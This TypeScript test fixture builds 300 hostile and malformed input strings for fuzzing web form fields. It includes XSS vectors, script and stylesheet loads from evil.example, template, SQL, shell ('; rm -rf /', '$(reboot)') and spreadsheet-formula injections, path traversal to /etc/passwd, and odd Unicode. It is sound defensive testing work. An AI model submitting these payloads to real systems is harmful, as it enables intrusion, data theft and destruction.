// What people may write who mean harm, or whose keyboard does: 300 different texts for every field. Each that could run
// calls ran(), which no page has; a test gives it one and watches.

/** What could run, if a page took it for more than text. */
const RUNS: readonly string[] = [
  '<script>ran()</script>',
  '<script src=//evil.example/x.js></script>',
  '<img src=x onerror=ran()>',
  '<img src="data:image/svg+xml,<svg onload=ran() xmlns=\'http://www.w3.org/2000/svg\'>">',
  '<svg onload=ran()>',
  '<svg><script>ran()</script></svg>',
  '<svg><animate onbegin=ran() attributeName=x dur=1s>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=ran()>#x">',
  '<math><mtext><script>ran()</script></mtext></math>',
  '<iframe src=javascript:ran()></iframe>',
  '<iframe srcdoc="<script>parent.ran()</script>"></iframe>',
  '<object data=javascript:ran()></object>',
  '<embed src=javascript:ran()>',
  '<a href=javascript:ran()>here</a>',
  '<a href="jav&#x09;ascript:ran()">here</a>',
  '<form action=javascript:ran()><input type=submit></form>',
  '<input autofocus onfocus=ran()>',
  '<details open ontoggle=ran()>',
  '<body onload=ran()>',
  '<video><source onerror=ran()></video>',
  '<style>@import "//evil.example/x.css";*{display:none}</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=javascript:ran()">',
  '<base href=//evil.example/>',
  '<template><img src=x onerror=ran()></template>',
  '<noscript><p title="</noscript><img src=x onerror=ran()>">',
  '<div style="background:url(javascript:ran())">',
  '<x onclick=ran() tabindex=1 id=x></x><style>#x{position:fixed;inset:0}</style>',
  'javascript:ran()',
  'JaVaScRiPt:ran()//',
  'data:text/html,<script>ran()</script>',
  'vbscript:ran()',
  'http://evil.example/"onmouseover="ran()',
  '{{ran()}}',
  '{{constructor.constructor("ran()")()}}',
  '${ran()}',
  '#{ran()}',
  '<%= ran() %>',
  '{@html "<img src=x onerror=ran()>"}',
  '{#await ran()}',
  '[x](javascript:ran())',
  '![x](x"onerror="ran())',
  '";ran();//',
  "';ran();//",
  '\\";ran();//',
  '`;ran();//',
  ');ran();//',
  '__proto__',
  'constructor',
];

/** What a text may have to break out of. */
const AROUND: readonly (readonly [string, string])[] = [
  ['', ''],
  ['"><', ''],
  ["'>", ''],
  ['</textarea>', ''],
  ['</title></style></script>', ''],
  ['--><!-- ', ' -->'],
  [']]>', ''],
];

const rtl = '\u05e9\u05dc\u05d5\u05dd';
/** What a layout, a reader or another program may stumble over. */
const ODD: readonly string[] = [
  '\u202eevil\u202c name', '\u2066\u2067\u2068isolates\u2069', '\u200fright\u200e', 'a\u200bb\u200cc\u200dd\ufeffe', '\u200b\u200b\u200b x',
  'tab\tand\u0008back\u007fdel', '\u001b[31mred\u001b[0m', 'bell\u0007', 'nul\u0001\u0002\u0003', 'c1\u0085\u009b31m',
  `Z${'\u0301'.repeat(10_000)}algo`, `\u0e01${'\u0e49'.repeat(400)}`, `e${'\u20dd\u0336\u0489'.repeat(50)}`, `${rtl} ${rtl} (${rtl})`, `abc ${rtl} 123`,
  '\u0645\u0631\u062d\u0628\u0627 <b>\u0639\u0627\u0644\u0645</b>', '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}\u200d\u{1f466}', '\u{1f3f4}\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}',
  '\u{1f44d}\u{1f3ff}'.repeat(12), '\u{1f1e9}\u{1f1ea}\u{1f1ef}\u{1f1f5}', '\u2764\ufe0f\u200d\u{1f525}', '=1+1', '=cmd|\' /C calc\'!A0', '+SUM(A1:A9)', '-2+3', '@SUM(1)', '=HYPERLINK("http://evil.example")',
  "'; drop table people; --", '" or ""="', "1' union select token from sessions --", '%27%20or%201=1', '../../../etc/passwd', '..\\..\\windows\\win.ini', '/dev/null', 'C:\\CON', 'file:///etc/passwd',
  '$(reboot)', '`reboot`', '; rm -rf /', '| cat', '&& true', '%s%s%n%x', '%00', '\\u0000', '&lt;b&gt;', '&#60;script&#62;', '&amp;amp;', '<!--', ']]>', '<?php echo 1 ?>',
  'null', 'undefined', 'NaN', 'true', '0', '-1', '1e309', '9007199254740993', '[object Object]', 'toString', 'hasOwnProperty',
  'W'.repeat(380), 'long-'.repeat(70), `${'\u4e2d\u6587'.repeat(120)}`, `${'\u0e01\u0e34\u0e19'.repeat(80)}`, 'a.b/c?d=e&f#g'.repeat(25), 'I\u00ad'.repeat(120), '\u2028line\u2029end', 'one\r\ntwo\nthree', '    four    spaces    ',
  '\ufdfd \ufdfa', '\u{12031}'.repeat(20), '\ufffd\ufffe', '\ue000private', '\u3164hangul filler', '\u2800braille', '\u0130stanbul \u0131\u015f\u0131k', 'stra\u00dfe \ufb01', 'A\u030angstro\u0308m', '\u1e9e\u017f\u2126', '\u{1d4d7}\u{1d4ee}\u{1d4f5}\u{1d4f5}\u{1d4f8}',
  'people@evil.example', 'http://evil.example/%2e%2e/', 'https://user:pass@evil.example', 'mailto:x@y.z?bcc=all', 'tel:+1', 'ftp://evil.example', '//evil.example', 'blob:null',
];

function made(): readonly string[] {
  const marked = AROUND.flatMap(([before, after]) => RUNS.map((text) => `${before}${text}${after}`));
  const all = [...new Set([...ODD, ...marked])].slice(0, 300);
  if (all.length !== 300) throw new Error(`${all.length} hostile texts`);
  return all;
}

export const HOSTILE = made();

/** The first so many code points. */
export function cut(text: string, points: number): string {
  return [...text].slice(0, points).join('');
}
